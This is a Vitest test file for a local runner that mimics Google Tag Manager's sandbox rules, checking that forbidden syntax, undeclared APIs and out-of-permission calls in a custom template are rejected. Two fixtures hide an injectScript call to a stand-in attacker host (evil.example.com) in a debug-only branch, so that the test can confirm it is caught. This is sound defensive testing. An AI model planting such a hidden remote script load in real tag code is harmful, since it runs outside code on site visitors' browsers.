import { describe, expect, it } from 'vitest';
import { parameters, permissions, sandboxedCode, scenarios } from '../../scripts/render/gtmTemplate';
import { checkParameters, runScenario } from './sandboxRunner';

const code = sandboxedCode();
const declared = permissions() as never;
const defaults = scenarios()[0];
/** The template with one line added before its last statement, as a developer might slip it in. */
const withLine = (line: string) =>
  code.replace(/\nfor \(let i = 0; i < urls.length; i\+\+\) injectScript/, (statement) => '\n' + line + statement);
const errorOf = (templateCode: string, scenario: { name: string; code: string } = defaults) =>
  runScenario(templateCode, scenario, declared).error?.message;

describe('the local ___TESTS___ runner rejects what GTM rejects', () => {
  it('runs the real template and its first scenario cleanly (positive control)', () => {
    expect(withLine('const extra = 1;')).not.toBe(code);
    expect(errorOf(withLine('const extra = 1;'))).toBeUndefined();
  });

  const wrongTemplates: [string, string, RegExp][] = [
    ['the JSON global', 'const text = JSON.stringify(config);', /global JSON/],
    ['the Math global', 'const dice = Math.random();', /global Math/],
    ['the Object global', 'const keys = Object.keys(config);', /global Object/],
    ['the window global', 'const page = window;', /global window/],
    ['destructuring', 'const { debug } = config;', /destructuring/],
    ['array destructuring', 'const [first] = vendors;', /destructuring/],
    ['spread', 'const copy = [...vendors];', /spread/],
    ['object spread', 'const copy = { ...config };', /spread/],
    ['rest parameters', 'const f = function (...args) { return args; };', /rest/],
    ['for…of', 'for (const vendor of vendors) { logToConsole(vendor); }', /for…of/],
    ['a class', 'class Thing {}', /class/],
    ['an async function', 'const later = async function () { return 1; };', /async/],
    ['a generator', 'const gen = function* () { yield 1; };', /generator|yield/],
    ['a getter', 'const box = { get value() { return 1; } };', /getter/],
    ['a template literal', 'const label = `bridge ${bridgeUrl}`;', /template literal/],
    ['new', 'const when = new Date();', /`new`/],
    ['this', 'const self = this;', /`this`/],
    ['a regex literal', "const ok = /x/.test('x');", /regex/],
    ['require of an API that does not exist', "const fetchUrl = require('fetchUrl');", /no such sandboxed API/],
    ['require with a computed name', "const name = 'getUrl'; const api = require(name);", /string literal/],
    ['require of an API whose permission is not declared', "const sendPixel = require('sendPixel');", /send_pixel/],
    [
      'setInWindow outside the permissions in a debug-only branch',
      "if (data.debug) setInWindow('dataLayer', [], true);",
      /setInWindow\("dataLayer"\) is not allowed/,
    ],
    [
      'injectScript outside the permissions in a debug-only branch',
      "if (data.debug) injectScript('https://evil.example.com/x.js', data.gtmOnSuccess, data.gtmOnFailure);",
      /injectScript\("https:\/\/evil/,
    ],
    [
      'a consent type the permissions do not let it read',
      "if (data.debug) isConsentGranted('ad_storage');",
      /isConsentGranted\("ad_storage"\) is not allowed/,
    ],
    [
      'a const-bound URL outside the permissions',
      "const EVIL = 'https://evil.example.com/x.js';\nif (data.debug) injectScript(EVIL);",
      /injectScript\("https:\/\/evil/,
    ],
  ];
  for (const [what, line, message] of wrongTemplates) {
    it(`fails a template that uses ${what}`, () => expect(errorOf(withLine(line))).toMatch(message));
  }

  it('enforces permissions when a computed subject reaches an unmocked API', () => {
    const computed = withLine("if (data.debug) setInWindow('data' + 'Layer', [], true);");
    expect(errorOf(computed)).toBeUndefined(); // the branch does not run with debug off
    const debugOn = { name: 'debug', code: 'runCode({ debug: true });' };
    expect(errorOf(computed, debugOn)).toMatch(/setInWindow: permission access_globals denied/);
    expect(errorOf(code, debugOn)).toBeUndefined();
  });

  const wrongScenarios: [string, string, RegExp][] = [
    ['a template literal', 'const label = `x`; runCode({});', /template literal/],
    ['new Date', 'const when = new Date(); runCode({});', /`new`/],
    ['the JSON global', 'const text = JSON.stringify({}); runCode({});', /global JSON/],
    ['mock of an API that does not exist', "mock('fetchUrl', 1); runCode({});", /no such sandboxed API/],
  ];
  for (const [what, scenarioCode, message] of wrongScenarios) {
    it(`fails a scenario that uses ${what}`, () => expect(errorOf(code, { name: what, code: scenarioCode })).toMatch(message));
  }

  it('fails template fields with a bogus type, group style or validator, and accepts the real ones', () => {
    expect(() => checkParameters(parameters())).not.toThrow();
    expect(() => checkParameters([{ type: 'DROPDOWN', name: 'a' }])).toThrow(/unknown type DROPDOWN/);
    expect(() => checkParameters([{ type: 'GROUP', name: 'g', groupStyle: 'COLLAPSIBLE', subParams: [] }])).toThrow(/group style/);
    expect(() =>
      checkParameters([{ type: 'GROUP', name: 'g', subParams: [{ type: 'TEXT', name: 't', valueValidators: [{ type: 'EMAIL' }] }] }]),
    ).toThrow(/validator EMAIL/);
  });
});

describe('the local ___TESTS___ runner runs valid GTM tests', () => {
  it('takes mock(api, value) with a non-function value as the return value', () => {
    const scenario = {
      name: 'value mock',
      code: "mock('queryPermission', false); runCode({ chiliPiper: true }); assertApi('gtmOnFailure').wasCalled(); assertApi('injectScript').wasNotCalled();",
    };
    expect(errorOf(code, scenario)).toBeUndefined();
    const control = {
      name: 'control',
      code: "mock('queryPermission', true); runCode({ chiliPiper: true }); assertApi('gtmOnFailure').wasCalled();",
    };
    expect(errorOf(code, control)).toMatch(/gtmOnFailure called/);
  });

  it('passes mockObject and assertApi call checks', () => {
    const scenario = {
      name: 'calls',
      code: [
        "mockObject('localStorage', { getItem: function () { return null; } });",
        "mock('injectScript', function (url, onSuccess) { onSuccess(); });",
        'runCode({ chiliPiper: true, customerly: false, userlike: false, genesys: false });',
        "assertApi('injectScript').wasCalledWith('" + 'https://cdn.jsdelivr.net/npm/' + "' + 'x', 1);",
      ].join('\n'),
    };
    // wasCalledWith compares every argument: a wrong one fails.
    expect(errorOf(code, scenario)).toMatch(/injectScript called with/);
  });

  // Each matcher on a value that satisfies it, then on one that does not.
  const matchers: [string, string, string][] = [
    ['isEqualTo({ a: [1] })', '{ a: [1] }', '{ a: [2] }'],
    ['isNotEqualTo({ a: 1 })', '{ a: 2 }', '{ a: 1 }'],
    ["isStrictlyEqualTo('x')", "'x'", "'y'"],
    ['isNotStrictlyEqualTo(1)', '2', '1'],
    ['isDefined()', '0', 'undefined'],
    ['isUndefined()', 'undefined', 'null'],
    ['isNull()', 'null', 'undefined'],
    ['isNotNull()', '0', 'null'],
    ['isTrue()', 'true', '1'],
    ['isFalse()', 'false', '0'],
    ['isTruthy()', "'a'", "''"],
    ['isFalsy()', '0', '1'],
    ['isNaN()', '0 / 0', '1'],
    ['isNotNaN()', '1', '0 / 0'],
    ['isInfinity()', '1 / 0', '1'],
    ['isNotInfinity()', '1', '-1 / 0'],
    ['isString()', "'a'", '1'],
    ['isNotString()', '1', "'a'"],
    ['isNumber()', '1', "'1'"],
    ['isNotNumber()', "'1'", '1'],
    ['isBoolean()', 'false', "'false'"],
    ['isNotBoolean()', '0', 'true'],
    ['isArray()', '[]', '{}'],
    ['isNotArray()', '{}', '[]'],
    ['isObject()', '{}', '[]'],
    ['isNotObject()', '[]', '{}'],
    ['isFunction()', 'function () {}', '{}'],
    ['isNotFunction()', '{}', 'function () {}'],
    ['isEmpty()', '[]', '[1]'],
    ['isNotEmpty()', "'a'", "''"],
    ['hasLength(2)', '[1, 2]', "'abc'"],
    ['contains(2, 3)', '[1, 2, 3]', '[1, 2]'],
    ["contains('ell')", "'hello'", "'help'"],
    ['doesNotContain(4)', '[1, 2]', '[4]'],
    ["isAnyOf('a', 'b')", "'b'", "'c'"],
    ["isNoneOf('a', 'b')", "'c'", "'a'"],
    ['isLessThan(2)', '1', '2'],
    ['isLessThanOrEqualTo(2)', '2', '3'],
    ['isGreaterThan(2)', '3', '2'],
    ['isGreaterThanOrEqualTo(2)', '2', '1'],
  ];
  for (const [matcher, good, bad] of matchers) {
    it(`assertThat(…).${matcher}`, () => {
      expect(errorOf(code, { name: 'good', code: `runCode({}); assertThat(${good}).${matcher};` })).toBeUndefined();
      expect(errorOf(code, { name: 'bad', code: `runCode({}); assertThat(${bad}).${matcher};` })).toMatch(/expected/);
    });
  }

  it('fail() fails the scenario', () => {
    expect(errorOf(code, { name: 'fail', code: "runCode({}); fail('stop here');" })).toBe('stop here');
    expect(errorOf(code, { name: 'no fail', code: "runCode({}); if (false) fail('stop here');" })).toBeUndefined();
  });
});
